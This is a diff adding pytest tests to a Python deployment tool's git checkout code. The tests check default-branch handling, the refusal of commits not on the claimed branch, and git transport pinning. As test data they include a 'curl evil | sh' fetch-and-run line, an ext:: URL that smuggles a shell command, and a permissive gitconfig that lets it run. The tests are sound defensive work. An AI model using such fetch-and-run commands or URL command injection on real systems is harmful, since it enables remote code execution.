@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import logging
+import os
 import socket
 import subprocess
 from pathlib import Path
@@ -12,7 +13,12 @@ import git
 import pytest
 
 from slipway.blocks.git import AppRepository, GitRemote
-from slipway.exceptions import CheckoutError, RemoteUnavailable, UnsafeInputError
+from slipway.exceptions import (
+    CheckoutError,
+    CommitNotOnBranch,
+    RemoteUnavailable,
+    UnsafeInputError,
+)
 from slipway.exceptions import retry_temporary_errors as _retry_when_temporary
 from slipway.tasks.checkout import checkout_repo, validate_ref
 from tests.servers.git_http import GitHttpServer, commit_files, git_executable, make_bare_repo
@@ -324,3 +330,167 @@ def test_retry_only_when_the_remote_was_unavailable():
     assert _retry_when_temporary(None, None, _FinishedState(CheckoutError("no ref"))) is False
     assert _retry_when_temporary(None, None, _FinishedState(UnsafeInputError("bad"))) is False
     assert _retry_when_temporary(None, None, _FinishedState(None)) is False
+
+
+# --- the default branch: the remote's, not a hard-coded name ---------------------------------
+
+
+@pytest.fixture
+def master_repo(tmp_path):
+    """A repository whose default branch (HEAD) is master, with a stale main beside it."""
+    bare = make_bare_repo(tmp_path / "remotes", "legacy.git", initial_branch="master")
+    commit_files(bare, {"a.txt": "1\n"}, "first", branch="master")
+    stale = commit_files(bare, {"old.txt": "x\n"}, "old main", branch="main")
+    head = commit_files(bare, {"a.txt": "2\n"}, "second", branch="master")
+    return {"bare": bare, "remote": AppRepository(url=bare.as_uri()), "head": head, "main": stale}
+
+
+def test_no_branch_builds_the_remotes_default_branch(master_repo, tmp_path):
+    result = checkout_repo(master_repo["remote"], work(tmp_path))
+
+    assert (result.sha, result.branch, result.ref) == (master_repo["head"], "master", "master")
+
+
+def test_head_names_the_default_branch(master_repo, tmp_path):
+    result = checkout_repo(master_repo["remote"], work(tmp_path), branch="HEAD")
+
+    assert (result.sha, result.branch) == (master_repo["head"], "master")
+
+
+def test_a_remote_with_a_detached_head_asks_for_a_branch(master_repo, tmp_path):
+    subprocess.run(
+        [git_executable(), "--git-dir", str(master_repo["bare"]), "update-ref", "--no-deref",
+         "HEAD", master_repo["head"]],
+        check=True,
+    )  # fmt: skip
+
+    with pytest.raises(CheckoutError, match="does not name a default branch.*default_branch"):
+        checkout_repo(master_repo["remote"], work(tmp_path))
+
+
+# --- a commit runs as a branch only when it is on that branch ---------------------------------
+
+
+@pytest.fixture
+def forked_repo(git_remote):
+    """main: c1 -> c2 -> c3 -> c4 -> c5; evil forks from c2 with one commit; tags on both."""
+    bare, url = git_remote({"a.txt": "1\n"}, message="c1")
+    shas = [git.Repo(bare).commit("main").hexsha]
+    shas.append(commit_files(bare, {"a.txt": "2\n"}, "c2"))
+    subprocess.run(
+        [git_executable(), "--git-dir", str(bare), "branch", "evil", shas[1]], check=True
+    )
+    evil = commit_files(bare, {"deploy.sh": "curl evil | sh\n"}, "evil", branch="evil")
+    for n in range(3, 6):
+        shas.append(commit_files(bare, {"a.txt": f"{n}\n"}, f"c{n}"))
+    tag(bare, "v-evil", evil)
+    tag(bare, "v-old", shas[0], message="on main")
+    return {"bare": bare, "remote": GitRemote(url=url), "main": shas, "evil": evil}
+
+
+def test_a_commit_on_another_branch_is_refused_before_checkout(forked_repo, tmp_path):
+    workspace = work(tmp_path)
+    evil = forked_repo["evil"]
+
+    with pytest.raises(CommitNotOnBranch) as caught:
+        checkout_repo(forked_repo["remote"], workspace, ref=evil, branch="main")
+
+    assert isinstance(caught.value, CheckoutError)
+    assert (caught.value.commit, caught.value.branch) == (evil, "main")
+    assert f"commit {evil}" in str(caught.value) and "'main'" in str(caught.value)
+    assert [p.name for p in workspace.iterdir()] == [".git"]  # nothing checked out
+
+
+def test_a_tag_on_another_branch_is_refused(forked_repo, tmp_path):
+    with pytest.raises(CommitNotOnBranch, match=r"\('v-evil'\) is not on branch 'main'"):
+        checkout_repo(forked_repo["remote"], work(tmp_path), ref="v-evil", branch="main")
+
+
+def test_a_branch_head_claimed_as_another_branch_is_refused(forked_repo, tmp_path):
+    with pytest.raises(CommitNotOnBranch):
+        checkout_repo(forked_repo["remote"], work(tmp_path), ref="evil", branch="main")
+
+
+def test_the_same_commit_runs_as_the_branch_it_is_on(forked_repo, tmp_path):
+    evil = forked_repo["evil"]
+
+    result = checkout_repo(forked_repo["remote"], work(tmp_path), ref=evil, branch="evil")
+
+    assert (result.sha, result.branch) == (evil, "evil")
+
+
+@pytest.mark.parametrize("which", ["head", "older than the fetch depth", "root via a tag"])
+def test_commits_on_the_branch_pass_whatever_their_depth(forked_repo, tmp_path, which):
+    main = forked_repo["main"]
+    ref, sha = {
+        "head": (main[-1], main[-1]),
+        "older than the fetch depth": (main[1], main[1]),  # 3 commits below the head
+        "root via a tag": ("v-old", main[0]),
+    }[which]
+
+    result = checkout_repo(forked_repo["remote"], work(tmp_path), ref=ref, branch="main")
+
+    assert (result.sha, result.branch, result.ref) == (sha, "main", ref)
+    assert git.Repo(work(tmp_path)).head.commit.hexsha == sha
+
+
+def test_the_default_branch_is_verified_too(forked_repo, tmp_path):
+    # a commit without a branch, run as the default branch (what the pipeline does)
+    with pytest.raises(CommitNotOnBranch, match="'main'"):
+        checkout_repo(forked_repo["remote"], work(tmp_path), ref=forked_repo["evil"], branch="HEAD")
+
+
+def test_a_claimed_branch_that_does_not_exist_is_named(forked_repo, tmp_path):
+    with pytest.raises(CheckoutError, match="branch 'nope' does not exist"):
+        checkout_repo(forked_repo["remote"], work(tmp_path), ref=forked_repo["evil"], branch="nope")
+
+
+def test_a_commit_off_the_branch_is_refused_over_http(tmp_path):
+    root = tmp_path / "served"
+    bare = make_bare_repo(root, "team/app.git")
+    base = commit_files(bare, {"a.txt": "1\n"}, "first")
+    commit_files(bare, {"a.txt": "2\n"}, "second")
+    subprocess.run([git_executable(), "--git-dir", str(bare), "branch", "evil", base], check=True)
+    evil = commit_files(bare, {"x.txt": "x\n"}, "evil", branch="evil")
+    with GitHttpServer(root, username=USER, password=TOKEN) as server:
+        repository = AppRepository(url=server.repo_url("team/app.git"), username=USER, token=TOKEN)
+        with pytest.raises(CommitNotOnBranch):
+            checkout_repo(repository, work(tmp_path, "a"), ref=evil, branch="main")
+        assert checkout_repo(repository, work(tmp_path, "b"), ref=base, branch="main").sha == base
+
+
+# --- git transports are pinned ------------------------------------------------------------------
+
+
+def test_an_ext_url_is_refused_by_git_whatever_the_machine_config_allows(tmp_path, monkeypatch):
+    marker = tmp_path / "ext-ran"
+    url = f"ext::sh -c touch% {marker}"
+    config = tmp_path / "permissive.gitconfig"
+    config.write_text('[protocol]\n\tallow = always\n[protocol "ext"]\n\tallow = always\n')
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
+    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
+    # the control: with this machine config, git alone runs the command
+    subprocess.run([git_executable(), "ls-remote", url], capture_output=True, check=False)
+    assert marker.exists()
+    marker.unlink()
+    # a block saved before the URL check (or built around it) still meets git's pin
+    remote = GitRemote.model_construct(url=url, username=None, token=None)
+
+    with pytest.raises(CheckoutError, match="transport 'ext' not allowed"):
+        checkout_repo(remote, work(tmp_path), branch="main")
+    assert not marker.exists()
+
+
+def test_plain_http_is_refused_unless_the_url_asks_for_it(http_repo, tmp_path):
+    server, sha = http_repo
+    url = server.repo_url("team/app.git")
+    as_https_only = AppRepository(url=url, username=USER, token=TOKEN)
+    env = {**as_https_only.git_env(), "GIT_ALLOW_PROTOCOL": "https:ssh:file"}
+
+    refused = subprocess.run(
+        [git_executable(), "ls-remote", url], env={**os.environ, **env}, capture_output=True,
+        text=True, check=False,
+    )  # fmt: skip
+
+    assert refused.returncode != 0 and "transport 'http' not allowed" in refused.stderr
+    assert checkout_repo(as_https_only, work(tmp_path), branch="main").sha == sha
